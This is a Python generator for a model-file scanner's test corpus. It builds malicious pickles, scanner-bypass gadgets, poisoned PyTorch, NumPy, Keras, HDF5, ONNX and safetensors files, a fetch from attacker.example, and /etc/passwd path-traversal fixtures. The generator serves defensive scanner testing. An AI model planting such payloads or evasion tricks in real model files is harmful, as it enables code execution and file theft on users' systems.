#!/usr/bin/env python3
"""Generate the model-file scanner corpus (aisf issue 7).

Writes src/platform/scan/fixtures/{benign,malicious,error}/. Malicious pickles are assembled
opcode by opcode and NEVER loaded. Benign files come from the real libraries (Debian
python3-torch, python3-numpy, python3-h5py, python3-onnx, python3-joblib) with fixed seeds.

Run: /usr/bin/python3 scripts/scan-corpus/generate.py
"""
import base64
import gzip
import bz2
import io
import json
import os
import shutil
import struct
import sys
import tarfile
import zipfile
import zlib

ROOT = os.path.join(os.path.dirname(__file__), '..', '..', 'src', 'platform', 'scan', 'fixtures')
ROOT = os.path.normpath(ROOT)
B = os.path.join(ROOT, 'benign')
M = os.path.join(ROOT, 'malicious')
E = os.path.join(ROOT, 'error')
S = os.path.join(ROOT, 'suspicious')  # no code execution, but refused at load: medium


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'wb') as f:
        f.write(data)


# ---------------------------------------------------------------- pickle opcode builder
def su(s):  # SHORT_BINUNICODE / BINUNICODE
    b = s.encode('utf-8')
    return (b'\x8c' + bytes([len(b)]) + b) if len(b) < 256 else (b'X' + struct.pack('<I', len(b)) + b)


def sb(b):  # SHORT_BINBYTES / BINBYTES
    return (b'C' + bytes([len(b)]) + b) if len(b) < 256 else (b'B' + struct.pack('<I', len(b)) + b)


PROTO2 = b'\x80\x02'
PROTO4 = b'\x80\x04'


def glob0(mod, name):  # GLOBAL (protocols 0-3)
    return b'c' + mod.encode() + b'\n' + name.encode() + b'\n'


def sglob(mod, name):  # STACK_GLOBAL
    return su(mod) + su(name) + b'\x93'


def call0(mod, name, arg):
    """Protocol 0: GLOBAL + MARK + STRING + TUPLE + REDUCE + STOP."""
    return glob0(mod, name) + b"(S'" + arg.encode() + b"'\ntR."


def call4(mod, name, arg):
    return PROTO4 + sglob(mod, name) + su(arg) + b'\x85R.'


def mal(name, data):
    write(os.path.join(M, name), data)


def malicious_pickles():
    mal('p0-os-system.pkl', call0('os', 'system', 'echo pwned'))
    mal('p0-posix-system.pickle', call0('posix', 'system', 'id'))
    mal('p2-builtin-eval-compat.pkl', PROTO2 + glob0('__builtin__', 'eval') + su('1+1') + b'\x85R.')
    mal('p4-builtins-exec.pkl', call4('builtins', 'exec', 'import os'))
    mal('p4-subprocess-popen.pkl', call4('subprocess', 'Popen', 'id'))
    mal('p0-inst-subprocess.pkl', b"(S'id'\nisubprocess\ncheck_output\n.")
    mal('p1-obj-os-system.pkl', b'(' + glob0('os', 'system') + b"S'id'\no.")
    mal('p4-runpy.pkl', call4('runpy', '_run_code', 'print(1)'))
    # memo confusion (picklescan#14): names parked in the memo with PUT and MEMOIZE, fetched by GET
    mal('p4-memo-confusion.pkl', PROTO4 + su('os') + b'\x94' + b'0' + su('system') + b'q\x05' + b'0'
        + b'h\x00' + b'h\x05' + b'\x93' + su('id') + b'\x85R.')
    # STACK_GLOBAL whose module name is computed by an allow-listed call (_codecs.encode)
    mal('p4-computed-import.pkl', PROTO4 + sglob('_codecs', 'encode') + su('os') + su('latin1') + b'\x86R'
        + su('system') + b'\x93' + su('id') + b'\x85R.')
    # EXT1: copyreg extension registry chooses the callable at load time
    mal('p2-ext1.pkl', PROTO2 + b'\x82\x01' + su('id') + b'\x85R.')
    # numpy.__builtins__ via STACK_GLOBAL then BUILD (modelscan#330)
    mal('p4-numpy-builtins-dunder.pkl', PROTO4 + sglob('numpy', '__builtins__') + b'}' + su('x') + su('y') + b's' + b'b.')
    # BUILD on an imported class (sets attributes of a module-level object)
    mal('p4-build-on-global.pkl', PROTO4 + sglob('collections', 'OrderedDict') + b'}' + su('__reduce__') + sglob('os', 'system') + b's' + b'b.')
    # importlib + getattr chain (modelscan#331)
    mal('p4-importlib-getattr.pkl', PROTO4 + sglob('builtins', 'getattr') + sglob('importlib', 'import_module') + su('os') + b'\x85R'
        + su('system') + b'\x86R' + su('id') + b'\x85R.')
    # nested pickle in a bytes constant, loaded by pickle.loads (modelscan#267)
    inner = call4('os', 'system', 'id')
    mal('p4-nested-pickle-loads.pkl', PROTO4 + sglob('_pickle', 'loads') + sb(inner) + b'\x85R.')
    # nested pickle hidden as base64 text fed to an allowed-looking decoder chain
    mal('p4-nested-base64.pkl', PROTO4 + sglob('base64', 'b64decode') + su(base64.b64encode(inner).decode()) + b'\x85R.')
    # a clean first stream, then a second stream with the payload (loaders that read on)
    mal('p2-second-stream.pkl', PROTO2 + b'}q\x00.' + call4('os', 'system', 'id'))
    # payload followed by junk: trailing data
    mal('p0-trailing-junk.pkl', call0('os', 'system', 'id') + b'PK\x03\x04junk')
    # payload left on the stack, a clean value returned (injection)
    mal('p4-leftover-stack.pkl', PROTO4 + sglob('os', 'system') + su('id') + b'\x85R' + b'}' + b'.')
    # billion laughs: one list fetched from the memo thousands of times
    laugh = PROTO4 + b']\x94' + b'(' + b'h\x00' * 5000 + b'e.'
    mal('p4-expansion.pkl', laugh)
    # known bypass gadgets (each missing from some scanner's deny-list at some point)
    gadgets = [
        ('torch.utils.collect_env', 'run'), ('pip', 'main'), ('pandas.io.parsers.readers', 'read_csv'),
        ('mlflow.projects.backend.local', '_run_entry_point'), ('multiprocessing.util', 'spawnv_passfds'),
        ('operator', 'attrgetter'), ('functools', 'partial'), ('code', 'InteractiveInterpreter'),
        ('timeit', 'timeit'), ('uuid', '_get_command_stdout'), ('cProfile', 'run'), ('doctest', 'debug_script'),
        ('torch.serialization', 'load'), ('numpy.testing._private.utils', 'runstring'), ('asyncio.subprocess', 'create_subprocess_shell'),
        ('webbrowser', 'open'), ('shutil', 'rmtree'), ('socket', 'create_connection'), ('ctypes', 'CDLL'),
        ('marshal', 'loads'), ('types', 'FunctionType'), ('torch._inductor.codecache', 'compile_file'),
        ('fickling.hook', 'deactivate_safe_ml_environment'), ('sys', 'exit'), ('pty', 'spawn'),
        ('some_unknown_package.gadgets', 'run_anything'),
    ]
    for mod, name in gadgets:
        mal(f'gadget-{mod.replace(".", "_")}-{name}.pkl', call4(mod, name, 'x'))
    # dill and joblib named payloads
    mal('payload.joblib', call4('os', 'system', 'id'))
    mal('payload.dill', call0('os', 'system', 'id'))
    # renamed: a pickle with a harmless-looking extension (routing by extension bypass)
    mal('looks-like-weights.safetensors', call4('os', 'system', 'id'))
    mal('looks-like-config.json', call0('os', 'system', 'id'))
    # zlib-compressed payload (joblib compress=…) and gzip
    mal('payload-zlib.joblib', zlib.compress(call4('os', 'system', 'id')))
    mal('payload.pkl.gz', gzip.compress(call4('os', 'system', 'id'), mtime=0))


def write_error_files():
    write(os.path.join(E, 'truncated-payload.pkl'), call4('os', 'system', 'id')[:-3])
    write(os.path.join(E, 'bad-opcode.pkl'), PROTO4 + su('a') + b'\xff.')
    write(os.path.join(E, 'payload.pkl.bz2'), bz2.compress(call4('os', 'system', 'id')))


# ---------------------------------------------------------------- PyTorch
def torch_files():
    import torch
    torch.manual_seed(0)
    model = torch.nn.Sequential(torch.nn.Linear(4, 3), torch.nn.ReLU(), torch.nn.Linear(3, 2))
    sd = model.state_dict()
    buf = io.BytesIO()
    torch.save(sd, buf)
    write(os.path.join(B, 'torch-state-dict.pt'), buf.getvalue())
    buf = io.BytesIO()
    torch.save(sd, buf, _use_new_zipfile_serialization=False)
    write(os.path.join(B, 'torch-state-dict-legacy.pth'), buf.getvalue())
    buf = io.BytesIO()
    torch.save({'epoch': 3, 'state': sd, 'lr': 0.1, 'names': ['a', 'b']}, buf)
    write(os.path.join(B, 'torch-checkpoint.ckpt'), buf.getvalue())
    # malicious: torch zip whose data.pkl is a payload
    good = zipfile.ZipFile(io.BytesIO(open(os.path.join(B, 'torch-state-dict.pt'), 'rb').read()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
        for info in good.infolist():
            data = good.read(info.filename)
            if info.filename.endswith('data.pkl'):
                data = call4('os', 'system', 'id')
            z.writestr(info.filename, data)
    mal('torch-zip-payload.pt', out.getvalue())
    # malicious: a member with an unknown compression method before data.pkl (modelscan#354 fail-open)
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w', zipfile.ZIP_STORED) as z:
        z.writestr('archive/aaa-corrupt', b'x' * 64)
        z.writestr('archive/data.pkl', call4('os', 'system', 'id'))
        z.writestr('archive/version', b'3\n')
    data = bytearray(out.getvalue())
    # patch the method of the first entry (local header offset 8, central directory entry +10) to 99
    data[8:10] = struct.pack('<H', 99)
    cd = data.find(b'PK\x01\x02')
    data[cd + 10:cd + 12] = struct.pack('<H', 99)
    mal('torch-zip-corrupt-first-member.pt', bytes(data))
    # malicious legacy checkpoint: magic, protocol, sys_info, then the payload
    legacy = open(os.path.join(B, 'torch-state-dict-legacy.pth'), 'rb').read()
    import pickle
    head = io.BytesIO()
    pickle.dump(0x1950a86a20f9469cfc6c, head, protocol=2)
    pickle.dump(1001, head, protocol=2)
    pickle.dump({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 4}}, head, protocol=2)
    mal('torch-legacy-payload.pth', head.getvalue() + call4('os', 'system', 'id') + PROTO2 + b'].')
    # full-model pickle: imports torch.nn.modules classes (not on the weights-only allow-list)
    buf = io.BytesIO()
    torch.save(model, buf)
    mal('torch-full-model-pickle.pt', buf.getvalue())
    # TorchScript archive with code/
    scripted = torch.jit.script(model)
    buf = io.BytesIO()
    torch.jit.save(scripted, buf)
    write(os.path.join(ROOT, 'other', 'torchscript.pt'), buf.getvalue())
    del legacy


# ---------------------------------------------------------------- PyTorch legacy tar (torch < 0.4 `torch.save`)
def torch_tar(payload_in=None):
    """A tar checkpoint as torch/serialization.py `legacy_load` reads it: members sys_info, pickle,
    storages, tensors. torch 1.13 still loads it but cannot write it, so it is assembled here from
    protocol-2 pickles of plain data and torch classes (no torch object is pickled by torch)."""
    import pickle
    import torch

    class Ref:
        def __init__(self, key):
            self.key = key

    class P(pickle.Pickler):
        def persistent_id(self, obj):
            return obj.key if isinstance(obj, Ref) else None

    def dumps(obj):
        buf = io.BytesIO()
        P(buf, protocol=2).dump(obj)
        return buf.getvalue()

    weights = struct.pack('<6f', *[0.5 * i for i in range(6)])
    sys_info = dumps({'protocol_version': 1001, 'little_endian': True, 'type_sizes': {'short': 2, 'int': 4, 'long': 8}})
    main = dumps({'weight': Ref('1')})  # persistent_load: deserialized_objects[int(saved_id)]
    storages = (dumps(1) + dumps((0, 'cpu', torch.FloatStorage)) + struct.pack('<q', 6) + weights + dumps([]))
    tensors = (dumps(1) + dumps((1, 0, torch.FloatTensor)) + struct.pack('<i', 2) + b'\0' * 4
               + struct.pack('<2q', 2, 3) + struct.pack('<2q', 3, 1) + struct.pack('<q', 0))
    members = {'sys_info': sys_info, 'pickle': main, 'storages': storages, 'tensors': tensors}
    evil = call4('os', 'system', 'id')
    if payload_in == 'pickle':
        members['pickle'] = evil
    elif payload_in == 'storages':
        # the storage record pickle is the payload (torch.load unpickles it before the object)
        members['storages'] = dumps(1) + evil + struct.pack('<q', 6) + weights + dumps([])
    elif payload_in == 'tensors':
        members['tensors'] = dumps(1) + evil + struct.pack('<i', 0) + b'\0' * 4 + struct.pack('<q', 0)
    elif payload_in == 'hidden':
        # a payload pickle hidden after the last storage record
        members['storages'] = storages + evil
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode='w', format=tarfile.PAX_FORMAT) as t:
        for name in ('sys_info', 'pickle', 'storages', 'tensors'):
            info = tarfile.TarInfo(name)
            info.size = len(members[name])
            info.mtime = 0
            t.addfile(info, io.BytesIO(members[name]))
    return out.getvalue()


def torch_tar_files():
    import torch
    write(os.path.join(B, 'torch-legacy-tar.pt'), torch_tar())
    # the benign tar must be what torch itself loads
    loaded = torch.load(os.path.join(B, 'torch-legacy-tar.pt'))
    assert loaded['weight'].shape == (2, 3) and float(loaded['weight'][1, 2]) == 2.5, loaded
    for where in ('pickle', 'storages', 'tensors', 'hidden'):
        mal(f'torch-legacy-tar-payload-{where}.pt', torch_tar(where))


# ---------------------------------------------------------------- NumPy / joblib
def numpy_files():
    import numpy as np
    rng = np.random.default_rng(0)
    a = rng.standard_normal((3, 4)).astype(np.float32)
    buf = io.BytesIO()
    np.save(buf, a)
    write(os.path.join(B, 'array.npy'), buf.getvalue())
    buf = io.BytesIO()
    np.savez(buf, w=a, b=np.arange(5, dtype=np.int64))
    write(os.path.join(B, 'arrays.npz'), buf.getvalue())
    buf = io.BytesIO()
    np.savez_compressed(buf, w=a, b=np.arange(5, dtype=np.int64))
    write(os.path.join(B, 'arrays-compressed.npz'), buf.getvalue())
    buf = io.BytesIO()
    np.save(buf, np.array(['a', 'bc'], dtype='<U2'))
    write(os.path.join(B, 'strings.npy'), buf.getvalue())
    # object array whose pickle is a payload (CVE-2019-6446)
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header = header + ' ' * (64 - 10 - len(header) - 1) + '\n'
    npy = b'\x93NUMPY\x01\x00' + struct.pack('<H', len(header)) + header.encode() + call4('os', 'system', 'id')
    mal('object-array-payload.npy', npy)
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr('w.npy', open(os.path.join(B, 'array.npy'), 'rb').read())
        z.writestr('evil.npy', npy)
    mal('npz-with-payload.npz', out.getvalue())
    # truncated array data → error
    write(os.path.join(E, 'truncated.npy'), buf.getvalue()[:-3] if False else open(os.path.join(B, 'array.npy'), 'rb').read()[:-5])
    import joblib
    obj = {'weights': a, 'bias': np.zeros(3), 'meta': {'n': 3}}
    joblib.dump(obj, os.path.join(B, 'model.joblib'))
    joblib.dump(obj, os.path.join(B, 'model-compressed.joblib'), compress=3)


# ---------------------------------------------------------------- Keras (.keras zip and .h5)
def dense_config():
    return {
        'module': 'keras', 'class_name': 'Sequential', 'registered_name': None,
        'config': {'name': 'sequential', 'layers': [
            {'module': 'keras.layers', 'class_name': 'InputLayer', 'registered_name': None, 'config': {'batch_shape': [None, 4], 'dtype': 'float32', 'name': 'input_layer'}},
            {'module': 'keras.layers', 'class_name': 'Dense', 'registered_name': None, 'config': {'name': 'dense', 'units': 2, 'activation': 'relu', 'use_bias': True,
             'kernel_initializer': {'module': 'keras.initializers', 'class_name': 'GlorotUniform', 'config': {'seed': None}, 'registered_name': None}}},
        ]},
    }


def keras_zip(config, extra=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, 'w') as z:
        z.writestr('metadata.json', json.dumps({'keras_version': '3.3.3', 'date_saved': '2026-01-01@00:00:00'}))
        z.writestr('config.json', json.dumps(config))
        z.writestr('model.weights.h5', h5_bytes(None))
        for k, v in (extra or {}).items():
            z.writestr(k, v)
    return out.getvalue()


def h5_bytes(model_config):
    import h5py
    import numpy as np
    bio = io.BytesIO()
    with h5py.File(bio, 'w') as f:
        if model_config is not None:
            f.attrs['model_config'] = json.dumps(model_config)
            f.attrs['keras_version'] = '2.12.0'
            f.attrs['backend'] = 'tensorflow'
        g = f.create_group('model_weights/dense')
        g.create_dataset('kernel', data=np.arange(8, dtype=np.float32).reshape(4, 2))
    return bio.getvalue()


def keras_files():
    write(os.path.join(B, 'dense.keras'), keras_zip(dense_config()))
    code = base64.b64encode(b'\xe3' + b'\x00' * 40).decode()  # marshalled code object placeholder
    lam = dense_config()
    lam['config']['layers'].append({'module': 'keras.layers', 'class_name': 'Lambda', 'registered_name': None,
                                    'config': {'name': 'lambda', 'function': {'class_name': '__lambda__', 'config': {'code': code, 'defaults': None, 'closure': None}}}})
    mal('keras-lambda.keras', keras_zip(lam))
    mod = dense_config()
    mod['config']['layers'][1]['config']['activation'] = {'module': 'os', 'class_name': 'function', 'config': 'system', 'registered_name': 'system'}
    mal('keras-module-os.keras', keras_zip(mod))
    tmw = dense_config()
    tmw['config']['layers'].append({'module': 'keras.layers', 'class_name': 'TorchModuleWrapper', 'registered_name': None, 'config': {'name': 'tmw', 'module': 'gASV...'}})
    mal('keras-torch-module-wrapper.keras', keras_zip(tmw))
    gf = dense_config()
    gf['config']['layers'].append({'module': 'keras.utils', 'class_name': 'function', 'config': 'get_file', 'registered_name': None,
                                   'args': ['x', 'https://attacker.example/payload']})
    mal('keras-get-file-url.keras', keras_zip(gf))
    mal('keras-embedded-elf.keras', keras_zip(dense_config(), {'assets/helper': b'\x7fELF\x02\x01\x01' + b'\x00' * 57}))
    # HDF5 (Keras 2 .h5)
    write(os.path.join(B, 'dense.h5'), h5_bytes({'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [{'class_name': 'Dense', 'config': {'name': 'd', 'units': 2}}]}}))
    h5lam = {'class_name': 'Sequential', 'config': {'name': 'seq', 'layers': [
        {'class_name': 'Lambda', 'config': {'name': 'l', 'function': [code, None, None], 'function_type': 'lambda', 'module': '__main__'}}]}}
    mal('keras-lambda.h5', h5_bytes(h5lam))
    hdf5_files(h5lam)


def hdf5_files(h5lam):
    """HDF5 beyond the root config: Keras 2 weights layout (benign), and payloads in places only a
    full walk of groups, datasets and attributes finds."""
    import h5py
    import numpy as np
    payload = call4('os', 'system', 'id')

    def h5(build, libver='earliest'):
        bio = io.BytesIO()
        with h5py.File(bio, 'w', libver=libver) as f:
            build(f)
        return bio.getvalue()

    def weights(f):
        # keras.saving.legacy.hdf5_format.save_weights_to_hdf5_group layout
        f.attrs['layer_names'] = np.array([b'dense'])
        f.attrs['backend'] = b'tensorflow'
        f.attrs['keras_version'] = b'2.12.0'
        g = f.create_group('dense')
        g.attrs['weight_names'] = np.array([b'dense/kernel:0', b'dense/bias:0'])
        g.create_dataset('dense/kernel:0', data=np.arange(8, dtype=np.float32).reshape(4, 2))
        g.create_dataset('dense/bias:0', data=np.zeros(2, dtype=np.float32))
    write(os.path.join(B, 'keras-weights.h5'), h5(weights))
    write(os.path.join(B, 'keras-weights-latest.h5'), h5(weights, 'latest'))

    def nested_lambda(f):
        weights(f)
        f['dense'].attrs['layer_config'] = json.dumps(h5lam['config']['layers'][0])
    mal('hdf5-nested-lambda-config.h5', h5(nested_lambda, 'latest'))

    def pickled_attr(f):
        weights(f)
        f['dense'].attrs['custom_object'] = np.void(payload)  # PyTables/pandas-style pickled attribute
    mal('hdf5-pickled-attribute.h5', h5(pickled_attr))

    def pickled_dataset(f):
        weights(f)
        f.create_dataset('optimizer_state', data=np.frombuffer(payload, dtype=np.uint8))
    mal('hdf5-pickled-dataset.h5', h5(pickled_dataset))

    def pickled_vlen(f):
        weights(f)
        d = f.create_dataset('objects', (1,), dtype=h5py.vlen_dtype(np.dtype('uint8')))
        d[0] = np.frombuffer(payload, dtype=np.uint8)
    mal('hdf5-pickled-vlen.h5', h5(pickled_vlen))

    def dense(f, payload_attr):
        weights(f)
        # more than 8 attributes with libver='latest': dense storage in a fractal heap (aisf's
        # bounded reader hands these files to libhdf5)
        for i in range(12):
            f['dense'].attrs[f'note{i}'] = f'value {i}'
        if payload_attr:
            f['dense'].attrs['custom_object'] = np.void(payload)
    # Layout variants of the samples above (not new techniques): fixtures of the HDF5 reader's own
    # tests (src/platform/scan/keras/fixtures), outside the benchmark corpus; they exercise the
    # libhdf5 fallback, whose cost bench/scan/RESULTS.md reports separately.
    kf = os.path.join(os.path.dirname(ROOT), 'keras', 'fixtures')
    write(os.path.join(kf, 'dense-attrs-benign.h5'), h5(lambda f: dense(f, False), 'latest'))
    write(os.path.join(kf, 'dense-attrs-pickled.h5'), h5(lambda f: dense(f, True), 'latest'))

    def external(f):
        weights(f)
        f['dense/extra'] = h5py.ExternalLink('/etc/passwd', '/x')
    mal('hdf5-external-link.h5', h5(external))


# ---------------------------------------------------------------- TensorFlow SavedModel (hand-encoded protobuf)
def varint(n):
    out = b''
    while True:
        b = n & 0x7f
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def fld(num, payload):  # length-delimited
    return varint(num << 3 | 2) + varint(len(payload)) + payload


def fvar(num, v):
    return varint(num << 3) + varint(v)


def node(name, op):
    return fld(1, name.encode()) + fld(2, op.encode())


def saved_model(graph_nodes, fn_nodes=()):
    graph = b''.join(fld(1, node(n, o)) for n, o in graph_nodes)
    if fn_nodes:
        fdef = fld(1, fld(1, b'__inference_fn')) + b''.join(fld(3, node(n, o)) for n, o in fn_nodes)
        graph += fld(2, fld(1, fdef))
    meta = fld(1, fld(4, b'serve')) + fld(2, graph)
    return fvar(1, 1) + fld(2, meta)


def tf_files():
    benign = [('x', 'Placeholder'), ('w', 'Const'), ('y', 'MatMul'), ('save/SaveV2', 'SaveV2'), ('save/RestoreV2', 'RestoreV2')]
    write(os.path.join(B, 'savedmodel', 'saved_model.pb'), saved_model(benign, [('m', 'MatMul'), ('r', 'Relu')]))
    mal(os.path.join('savedmodel-pyfunc', 'saved_model.pb'), saved_model(benign + [('py', 'PyFunc')]))
    mal(os.path.join('savedmodel-readfile', 'saved_model.pb'), saved_model(benign, [('rf', 'ReadFile'), ('wf', 'WriteFile')]))
    # reads any file through a reader queue; ships tensors to a debug URL (file:// or grpc://)
    mal(os.path.join('savedmodel-whole-file-reader', 'saved_model.pb'), saved_model(benign + [('r', 'WholeFileReaderV2'), ('rd', 'ReaderReadV2')]))
    mal(os.path.join('savedmodel-debug-exfil', 'saved_model.pb'), saved_model(benign, [('d', 'DebugIdentityV2')]))
    # a realistic inference graph: conv net ops, variables, control flow
    write(os.path.join(B, 'savedmodel-convnet', 'saved_model.pb'), saved_model(
        [('x', 'Placeholder'), ('v', 'VarHandleOp'), ('r', 'ReadVariableOp'), ('c', 'Conv2D'), ('b', 'BiasAdd'), ('n', 'FusedBatchNormV3'),
         ('a', 'Relu'), ('p', 'MaxPool'), ('f', 'Reshape'), ('m', 'MatMul'), ('s', 'Softmax'), ('i', 'Identity'), ('sp', 'StatefulPartitionedCall'),
         ('save/SaveV2', 'SaveV2'), ('save/RestoreV2', 'RestoreV2'), ('save/sf', 'ShardedFilename'), ('save/j', 'StringJoin'), ('save/mc', 'MergeV2Checkpoints')],
        [('w', 'While'), ('if', 'StatelessIf'), ('g', 'GatherV2'), ('cc', 'ConcatV2')]))
    meta = json.dumps({'class_name': 'Sequential', 'config': {'layers': [{'class_name': 'Lambda', 'config': {'name': 'l', 'function': ['4wAAAAAAAAAAAAAAAAAAAAA=', None, None], 'function_type': 'lambda'}}]}})
    mal(os.path.join('savedmodel-keras-lambda', 'keras_metadata.pb'), fld(1, fvar(2, 0) + fld(3, b'root') + fld(4, b'_tf_keras_sequential') + fld(5, meta.encode())))


# ---------------------------------------------------------------- ONNX
def onnx_files():
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    w = numpy_helper.from_array(np.arange(6, dtype=np.float32).reshape(2, 3), 'W')
    def model(nodes, inits, opsets=None):
        g = helper.make_graph(nodes, 'g', [helper.make_tensor_value_info('X', TensorProto.FLOAT, [1, 2])],
                              [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [1, 3])], inits)
        m = helper.make_model(g, opset_imports=opsets or [helper.make_opsetid('', 13)], producer_name='aisf-corpus')
        m.ir_version = 8
        return m
    good = model([helper.make_node('MatMul', ['X', 'W'], ['Y'], name='mm')], [w])
    onnx.checker.check_model(good)
    write(os.path.join(B, 'matmul.onnx'), good.SerializeToString())
    # external data inside the folder (benign)
    ext = onnx.TensorProto()
    ext.CopyFrom(w)
    ext.ClearField('raw_data')
    ext.data_location = TensorProto.EXTERNAL
    for k, v in (('location', 'weights.bin'), ('offset', '0'), ('length', '24')):
        e = ext.external_data.add()
        e.key, e.value = k, v
    write(os.path.join(B, 'onnx-external', 'model.onnx'), model([helper.make_node('MatMul', ['X', 'W'], ['Y'])], [ext]).SerializeToString())
    write(os.path.join(B, 'onnx-external', 'weights.bin'), np.arange(6, dtype=np.float32).tobytes())
    for fname, loc in (('onnx-external-dotdot.onnx', '../../../../etc/passwd'), ('onnx-external-absolute.onnx', '/etc/passwd'), ('onnx-external-nested.onnx', 'sub/../../secret.bin')):
        t = onnx.TensorProto()
        t.CopyFrom(ext)
        t.external_data[0].value = loc
        mal(fname, model([helper.make_node('MatMul', ['X', 'W'], ['Y'])], [t]).SerializeToString())
    py = model([helper.make_node('PyOp', ['X'], ['Y'], domain='ai.onnx.contrib')], [], [helper.make_opsetid('', 13), helper.make_opsetid('ai.onnx.contrib', 1)])
    mal('onnx-python-op.onnx', py.SerializeToString())
    bad = onnx.TensorProto()
    bad.CopyFrom(w)
    bad.raw_data = bad.raw_data[:8]
    mal('onnx-raw-data-short.onnx', model([helper.make_node('MatMul', ['X', 'W'], ['Y'])], [bad]).SerializeToString())


# ---------------------------------------------------------------- safetensors
def st(tensors, metadata=None, raw_header=None, tail=b''):
    header = {}
    data = b''
    for name, dtype, shape, blob in tensors:
        header[name] = {'dtype': dtype, 'shape': shape, 'data_offsets': [len(data), len(data) + len(blob)]}
        data += blob
    if metadata:
        header['__metadata__'] = metadata
    h = raw_header if raw_header is not None else json.dumps(header, separators=(',', ':'))
    hb = h.encode()
    hb += b' ' * ((8 - len(hb) % 8) % 8)
    return struct.pack('<Q', len(hb)) + hb + data + tail


def safetensors_files():
    import numpy as np
    a = np.arange(6, dtype=np.float32).tobytes()
    b = np.arange(4, dtype=np.int64).tobytes()
    write(os.path.join(B, 'model.safetensors'), st([('a', 'F32', [2, 3], a), ('b', 'I64', [4], b)], {'format': 'pt'}))
    dup = '{"a":{"dtype":"F32","shape":[2,3],"data_offsets":[0,24]},"a":{"dtype":"F32","shape":[6],"data_offsets":[0,24]}}'
    mal('safetensors-duplicate-key.safetensors', st([], raw_header=dup, tail=a))
    overlap = '{"a":{"dtype":"F32","shape":[2,3],"data_offsets":[0,24]},"b":{"dtype":"F32","shape":[2,3],"data_offsets":[8,32]}}'
    mal('safetensors-overlap.safetensors', st([], raw_header=overlap, tail=a + b'\x00' * 8))
    mal('safetensors-polyglot-tail.safetensors', st([('a', 'F32', [2, 3], a)], tail=call4('os', 'system', 'id')))
    mism = '{"a":{"dtype":"F32","shape":[4,4],"data_offsets":[0,24]}}'
    mal('safetensors-size-mismatch.safetensors', st([], raw_header=mism, tail=a))
    proto = '{"__proto__":{"dtype":"F32","shape":[2,3],"data_offsets":[0,24]}}'
    mal('safetensors-proto-key.safetensors', st([], raw_header=proto, tail=a))
    write(os.path.join(E, 'safetensors-truncated.safetensors'), st([('a', 'F32', [2, 3], a)])[:-4])


# ---------------------------------------------------------------- parameter values (seed 000 §3(四)2)
def value_files():
    """Weights that are not code but must not be loaded: NaN/Inf and absurd magnitudes (medium)."""
    import numpy as np
    import onnx
    from onnx import TensorProto, helper, numpy_helper
    w = np.arange(6, dtype=np.float32).reshape(2, 3)
    nan = w.copy()
    nan[1, 1] = np.nan
    write(os.path.join(S, 'safetensors-nan.safetensors'), st([('a', 'F32', [2, 3], nan.tobytes())]))
    huge = w.copy()
    huge[0, 2] = 3e35
    write(os.path.join(S, 'safetensors-huge-weight.safetensors'), st([('a', 'F32', [2, 3], huge.tobytes())]))
    half = np.array([1.0, np.inf, -2.0, 0.5], dtype=np.float16)
    write(os.path.join(S, 'safetensors-f16-inf.safetensors'), st([('h', 'F16', [4], half.tobytes())]))
    inf = w.copy()
    inf[0, 0] = -np.inf
    g = helper.make_graph([helper.make_node('MatMul', ['X', 'W'], ['Y'])], 'g',
                          [helper.make_tensor_value_info('X', TensorProto.FLOAT, [1, 2])],
                          [helper.make_tensor_value_info('Y', TensorProto.FLOAT, [1, 3])], [numpy_helper.from_array(inf, 'W')])
    m = helper.make_model(g, opset_imports=[helper.make_opsetid('', 13)], producer_name='aisf-corpus')
    m.ir_version = 8
    write(os.path.join(S, 'onnx-inf-initializer.onnx'), m.SerializeToString())


# ---------------------------------------------------------------- TF.js
def tfjs_files():
    import numpy as np
    w = np.arange(6, dtype=np.float32).tobytes()
    def mj(paths):
        return json.dumps({'format': 'layers-model', 'generatedBy': 'keras v2.12.0', 'convertedBy': 'TensorFlow.js Converter v4.0.0',
                           'modelTopology': {'class_name': 'Sequential', 'config': {'name': 's', 'layers': [{'class_name': 'Dense', 'config': {'name': 'd', 'units': 3}}]}},
                           'weightsManifest': [{'paths': paths, 'weights': [{'name': 'd/kernel', 'shape': [2, 3], 'dtype': 'float32'}]}]}).encode()
    write(os.path.join(B, 'tfjs', 'model.json'), mj(['group1-shard1of1.bin']))
    write(os.path.join(B, 'tfjs', 'group1-shard1of1.bin'), w)
    mal(os.path.join('tfjs-traversal', 'model.json'), mj(['../../../../etc/passwd']))
    mal(os.path.join('tfjs-shard-size', 'model.json'), mj(['group1-shard1of1.bin']))
    mal(os.path.join('tfjs-shard-size', 'group1-shard1of1.bin'), w + b'\x00' * 64)


# ---------------------------------------------------------------- GGUF
def gguf(kv, tensors):
    def s(x):
        b = x.encode()
        return struct.pack('<Q', len(b)) + b
    out = b'GGUF' + struct.pack('<I', 3) + struct.pack('<Q', len(tensors)) + struct.pack('<Q', len(kv))
    for k, (t, v) in kv.items():
        out += s(k) + struct.pack('<I', t)
        out += s(v) if t == 8 else struct.pack('<I', v)
    offset = 0
    data = b''
    for name, dims, blob in tensors:
        out += s(name) + struct.pack('<I', len(dims)) + b''.join(struct.pack('<Q', d) for d in dims) + struct.pack('<I', 0) + struct.pack('<Q', offset)
        pad = (32 - len(blob) % 32) % 32
        data += blob + b'\x00' * pad
        offset += len(blob) + pad
    out += b'\x00' * ((32 - len(out) % 32) % 32)
    return out + data


def gguf_files():
    import numpy as np
    t = [('tok_embd.weight', [4, 2], np.arange(8, dtype=np.float32).tobytes())]
    benign_tpl = "{% for message in messages %}{{ '<|' + message['role'] + '|>' + message['content'] }}{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"
    kv = {'general.architecture': (8, 'llama'), 'general.alignment': (4, 32), 'tokenizer.chat_template': (8, benign_tpl)}
    write(os.path.join(B, 'tiny.gguf'), gguf(kv, t))
